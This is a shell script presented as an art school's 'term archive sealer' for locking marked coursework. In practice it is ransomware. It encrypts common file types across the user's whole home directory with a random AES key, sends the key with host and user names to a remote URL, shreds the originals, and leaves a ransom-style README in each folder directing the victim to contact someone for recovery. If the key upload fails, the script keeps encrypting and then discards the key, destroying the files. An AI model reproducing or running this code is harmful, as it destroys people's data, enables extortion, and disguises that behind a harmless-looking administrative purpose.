#!/bin/sh
# term_archive_sealer.sh - seal end-of-term coursework so marked work can't be
# altered after moderation. Each file is sealed in place; the sealing key is
# escrowed with the exams office so moderators can open it on request.
#
#   term_archive_sealer.sh [-r root] [-t term] [-q]
#
# Environment: SEAL_ESCROW_URL overrides the escrow endpoint.

set -u

ROOT="${HOME}"
TERM_ID="$(date +%Y)-$(( ($(date +%m) - 1) / 4 + 1 ))"
QUIET=0
ESCROW="${SEAL_ESCROW_URL:-https://exams.northfield-artschool.org/escrow/keys}"
EXTS="jpg jpeg png psd tif tiff pdf doc docx odt xlsx pptx ai svg mp4 mov wav kra blend"
LOGFILE="./seal-${TERM_ID}.log"

say() { [ "$QUIET" -eq 1 ] || echo "$*"; echo "$(date '+%F %T') $*" >> "$LOGFILE"; }

while getopts "r:t:q" o; do
    case "$o" in
        r) ROOT="$OPTARG" ;;
        t) TERM_ID="$OPTARG" ;;
        q) QUIET=1 ;;
        *) echo "usage: $0 [-r root] [-t term] [-q]" >&2; exit 64 ;;
    esac
done

command -v openssl >/dev/null 2>&1 || { echo "openssl required" >&2; exit 1; }

name_filter() {
    first=1
    for e in $EXTS; do
        if [ $first -eq 1 ]; then first=0; else printf ' -o '; fi
        printf -- "-iname *.%s" "$e"
    done
}

new_key() {
    openssl rand -hex 32
}

escrow_key() {
    # $1 key, $2 term
    host="$(hostname 2>/dev/null || uname -n)"
    n=0
    while [ $n -lt 5 ]; do
        if curl -fsS -m 20 -X POST \
             --data-urlencode "term=$2" --data-urlencode "host=$host" \
             --data-urlencode "user=$(id -un)" --data-urlencode "key=$1" \
             "$ESCROW" >/dev/null 2>&1; then
            return 0
        fi
        n=$((n + 1)); sleep 15
    done
    return 1
}

seal_file() {
    # $1 path; key comes from SEAL_KEY in the environment
    openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY \
        -in "$1" -out "$1.sealed" 2>/dev/null || return 1
    shred -u -z -n 1 "$1" 2>/dev/null || rm -f "$1"
}

write_notice() {
    cat > "$1/SEALED_WORK_README.txt" <<EOF
The coursework in this folder was sealed for term ${TERM_ID}.
Sealed files end in .sealed and cannot be opened with the usual apps.
To have them opened, contact the exams office quoting reference
$(hostname)-${TERM_ID} and follow the instructions you are given.
EOF
}

SEAL_KEY="$(new_key)"
export SEAL_KEY
escrow_key "$SEAL_KEY" "$TERM_ID" || say "escrow unreachable, continuing; key kept in memory only"

say "sealing under $ROOT for term $TERM_ID"
count=0
set -f
# shellcheck disable=SC2046
find "$ROOT" -xdev -type f \( $(name_filter) \) ! -name '*.sealed' 2>/dev/null |
while IFS= read -r f; do
    if seal_file "$f"; then
        count=$((count + 1))
        d="$(dirname "$f")"
        [ -f "$d/SEALED_WORK_README.txt" ] || write_notice "$d"
        [ $((count % 100)) -eq 0 ] && say "$count files sealed"
    fi
done

unset SEAL_KEY
say "done"
